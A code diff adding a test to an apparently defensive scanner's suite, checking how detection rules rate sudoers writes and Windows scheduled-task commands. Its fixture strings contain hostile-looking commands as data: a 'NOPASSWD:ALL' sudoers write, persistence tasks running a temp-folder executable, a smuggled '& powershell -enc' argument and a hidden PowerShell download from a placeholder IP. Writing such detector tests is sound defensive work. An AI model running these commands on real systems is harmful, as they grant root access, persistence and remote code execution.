@@ -677,3 +677,13 @@ def test_a_nopasswd_rule_written_to_sudoers_is_critical_other_writes_high_reads_
             "Path('/etc/sudoers.d/90-u').write_text('u ALL=(ALL) NOPASSWD:ALL')\n"
             "rules = open('/etc/sudoers').read()\n")
     assert _by_line("sudoers-rule-written", "m.py", text) == {4: "high", 5: "high", 6: "critical"}
+
+
+def test_a_scheduled_task_for_an_installed_program_is_medium_for_a_script_host_or_temp_file_high():
+    text = ("import subprocess\n"
+            "subprocess.run(['schtasks', '/create', '/sc', 'daily', '/tn', 'B', '/tr', r'\"C:\\Program Files\\B\\b.exe\" -n'])\n"
+            "subprocess.run('schtasks /create /sc onlogon /tn U /tr C:\\\\Windows\\\\System32\\\\cleanmgr.exe /f')\n"
+            "subprocess.run(['schtasks', '/create', '/sc', 'onlogon', '/tn', 'U', '/tr', r'C:\\Users\\a\\AppData\\Local\\Temp\\u.exe'])\n"
+            "subprocess.run(['schtasks', '/create', '/sc', 'onlogon', '/tn', 'U', '/tr', r'C:\\Program Files\\B\\b.exe', '&', 'powershell', '-enc', 'AAA'])\n"
+            "subprocess.run('schtasks /create /sc minute /tn U /tr \"powershell -w hidden -c iwr http://203.0.113.9/a\"')\n")
+    assert _by_line("shell-persistence-command", "m.py", text) == {2: "medium", 3: "medium", 4: "high", 5: "high", 6: "high"}
